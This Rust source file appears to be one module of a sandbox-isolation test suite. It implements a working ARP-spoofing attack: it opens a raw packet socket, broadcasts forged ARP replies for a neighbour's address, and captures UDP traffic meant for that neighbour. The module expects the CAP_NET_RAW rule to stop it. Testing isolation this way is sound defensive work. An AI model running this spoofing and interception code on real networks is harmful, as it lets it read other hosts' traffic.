//! Poses as the neighbour on the bridge. Whoever may send raw packets can
//! answer for somebody else's address ("ARP spoofing"), and then has what was
//! meant for them.

use std::net::Ipv4Addr;
use std::os::fd::{AsRawFd, OwnedFd};
use std::time::{Duration, Instant};

use anyhow::Context;
use nix::errno::Errno;
use nix::ifaddrs::getifaddrs;
use nix::sys::socket::sockopt::ReceiveTimeout;
use nix::sys::socket::{
    AddressFamily, LinkAddr, MsgFlags, SockFlag, SockProtocol, SockType, bind,
    recv, send, setsockopt, socket,
};
use nix::sys::time::TimeVal;

use crate::attack::{
    Argument, Arguments, Attack, Ended, OrStopped, Outcome, StoppedBy, Try,
};

pub const ATTACK: Attack = Attack {
    name: "pose-as-neighbour",
    tries: "answer for the neighbour's address, and read what it is sent",
    stopped: StoppedBy::Step(9),
    rule: "a socket of raw packets needs CAP_NET_RAW",
    source: "packet(7), arp(7), CVE-2020-14386, capabilities(7)",
    arguments: &[
        Argument::fact(
            "ADDRESS",
            "the neighbour's; there: tail -n 1 /etc/hosts",
        ),
        Argument::new("SECONDS", "10", "how long to wait for a packet"),
    ],
    run,
};

/// The kernel does not let a neighbour's answer be replaced for one second:
/// the answer that lasts is the one that is given most often.
const EVERY: Duration = Duration::from_millis(100);

fn run(arguments: &Arguments) -> Try {
    let Some(neighbour) = arguments.get("ADDRESS") else {
        let how = "name an ADDRESS: a neighbour's; there: tail -n 1 /etc/hosts";
        return Ok(Outcome::CannotTry(how.into()));
    };
    let neighbour: Ipv4Addr =
        neighbour.parse().with_context(|| format!("ADDRESS: {neighbour:?}"))?;
    let patience = Duration::from_secs(arguments.number("SECONDS")?);
    let socket = socket(
        AddressFamily::Packet,
        SockType::Raw,
        SockFlag::SOCK_CLOEXEC,
        SockProtocol::EthAll,
    )
    .or_stopped("socket(AF_PACKET, SOCK_RAW)")?;
    let cable = cable()?;
    bind(socket.as_raw_fd(), &cable).or_stopped("bind(eth0)")?;
    let wait = TimeVal::new(0, EVERY.as_micros().try_into().unwrap_or(0));
    setsockopt(&socket, ReceiveTimeout, &wait).context("setsockopt()")?;
    let lie = is_at(neighbour, cable.addr().context("no hardware address")?);
    let start = Instant::now();
    let mut told = None;
    while start.elapsed() < patience {
        if told.is_none_or(|at: Instant| at.elapsed() > EVERY) {
            send(socket.as_raw_fd(), &lie, MsgFlags::empty())
                .or_stopped("send()")?;
            told = Some(Instant::now());
        }
        if let Some(text) = meant_for(neighbour, &socket)? {
            let gained = format!("{neighbour} was sent: {text}");
            return Ok(Outcome::Worked(gained));
        }
    }
    Ok(Outcome::Stopped(format!("nothing came that was for {neighbour}")))
}

fn cable() -> Result<LinkAddr, Ended> {
    // In a system container it is called host0.
    let is_ours = |name: &str| name == "eth0" || name == "host0";
    let found = getifaddrs().or_stopped("getifaddrs()")?.find_map(|it| {
        let address = it.address.filter(|_| is_ours(&it.interface_name))?;
        address.as_link_addr().copied()
    });
    found.ok_or_else(|| Outcome::CannotTry("there is no eth0".into()).into())
}

/// An answer to all (RFC 826), without a question: this address is here.
fn is_at(address: Ipv4Addr, here: [u8; 6]) -> Vec<u8> {
    const ALL: [u8; 6] = [0xff; 6];
    const ARP: [u8; 2] = [0x08, 0x06];
    // Ethernet, IPv4, addresses of 6 and 4 bytes, an answer.
    const ANSWER: [u8; 8] = [0, 1, 8, 0, 6, 4, 0, 2];
    let ip = address.octets();
    [&ALL[..], &here, &ARP, &ANSWER, &here, &ip, &ALL, &ip].concat()
}

/// The text of one datagram of UDP in IPv4 in Ethernet, if that comes.
fn meant_for(
    address: Ipv4Addr,
    socket: &OwnedFd,
) -> Result<Option<String>, Ended> {
    let mut frame = [0; 2048];
    let length = match recv(socket.as_raw_fd(), &mut frame, MsgFlags::empty()) {
        Err(Errno::EAGAIN) => return Ok(None),
        length => length.or_stopped("recv()")?,
    };
    let text = || {
        let (ethernet, ip) = frame[..length].split_at_checked(14)?;
        let header = usize::from(ip.first()? & 0xf) * 4;
        let is_for_it = ethernet.ends_with(&[8, 0])
            && ip.get(9) == Some(&17)
            && ip.get(16..20)? == address.octets();
        let text = ip.get(header + 8..).filter(|_| is_for_it)?;
        Some(String::from_utf8_lossy(text).escape_debug().to_string())
    };
    Ok(text())
}
